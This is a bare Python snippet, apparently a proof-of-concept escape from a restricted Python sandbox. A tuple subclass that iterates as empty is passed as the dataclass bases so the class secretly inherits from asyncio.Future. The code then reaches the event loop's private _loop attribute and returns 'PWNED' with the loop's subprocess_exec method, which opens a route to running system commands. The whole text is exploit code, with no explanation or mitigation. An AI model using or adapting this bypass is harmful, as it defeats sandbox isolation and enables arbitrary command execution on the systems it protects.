import asyncio
import dataclasses


class Bases(tuple):
    def __iter__(self):
        return iter(())


Mine = dataclasses.make_dataclass("Mine", [], bases=Bases((asyncio.Future,)), init=False, eq=False, repr=False)


async def main():
    return Mine()._loop


loop = asyncio.run(main())
return "PWNED " + repr(loop.subprocess_exec)
